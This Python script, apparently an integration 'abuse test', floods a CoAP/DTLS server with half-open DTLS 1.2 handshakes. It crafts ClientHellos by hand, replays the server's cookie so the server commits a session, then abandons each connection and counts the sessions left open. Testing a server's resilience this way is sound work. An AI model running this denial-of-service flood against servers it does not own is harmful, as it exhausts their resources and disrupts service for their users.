#!/usr/bin/python3
"""Half-open DTLS 1.2 handshakes against a CoAP/DTLS server, for the abuse test.

    it_coap_flood.py HOST PORT COUNT

Each handshake comes from its own UDP socket (its own source port, so the server sees a
new peer): a ClientHello, the server's HelloVerifyRequest, the ClientHello again with the
cookie -- which makes the server commit a session and send its certificate flight -- and then
silence. Nothing is ever completed. Prints how many cookies came back and how many
half-open handshakes were left behind. Binds nothing but ephemeral ports; stops by itself.
"""
import os
import socket
import struct
import sys
import time


def ext(kind, data):
    return struct.pack("!HH", kind, len(data)) + data


def len3(n):
    return n.to_bytes(3, "big")


def client_hello(rnd, cookie, msg_seq, rec_seq):
    # ECDHE-ECDSA suites only: the server holds a P-256 certificate.
    suites = [0xC0AE, 0xC0AC, 0xC02B, 0xC023, 0xC009]
    body = b"\xfe\xfd" + rnd + b"\x00" + bytes([len(cookie)]) + cookie
    body += struct.pack("!H", 2 * len(suites)) + b"".join(struct.pack("!H", s) for s in suites)
    body += b"\x01\x00"
    exts = (ext(0x000A, b"\x00\x02\x00\x17")        # supported_groups: secp256r1
            + ext(0x000B, b"\x01\x00")              # ec_point_formats: uncompressed
            + ext(0x000D, b"\x00\x02\x04\x03")      # signature_algorithms: ecdsa_secp256r1_sha256
            + ext(0x0017, b"")                      # extended_master_secret
            + ext(0xFF01, b"\x00"))                 # renegotiation_info
    body += struct.pack("!H", len(exts)) + exts
    hs = b"\x01" + len3(len(body)) + struct.pack("!H", msg_seq) + len3(0) + len3(len(body)) + body
    return (b"\x16\xfe\xfd" + struct.pack("!H", 0) + rec_seq.to_bytes(6, "big")
            + struct.pack("!H", len(hs)) + hs)


def cookie_of(rec):
    # record header (13) + handshake header (12), type 3 = hello_verify_request
    if len(rec) < 13 + 12 + 3 or rec[0] != 0x16 or rec[13] != 3:
        return None
    n = rec[13 + 12 + 2]
    return rec[13 + 12 + 3:13 + 12 + 3 + n]


def main():
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    cookies = half_open = 0
    t0 = time.monotonic()
    for _ in range(count):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(0.5)
        try:
            s.connect((host, port))
            rnd = os.urandom(32)
            s.send(client_hello(rnd, b"", 0, 0))
            cookie = cookie_of(s.recv(2048))
            if cookie is None:
                continue
            cookies += 1
            s.send(client_hello(rnd, cookie, 1, 1))
            s.recv(4096)            # the server's flight: it now holds a session for us
            half_open += 1
        except OSError:
            pass
        finally:
            s.close()
    print("flood: %d ClientHellos, %d cookies, %d half-open handshakes in %.1f s"
          % (count, cookies, half_open, time.monotonic() - t0))
    return 0 if half_open > 0 else 1


if __name__ == "__main__":
    sys.exit(main())
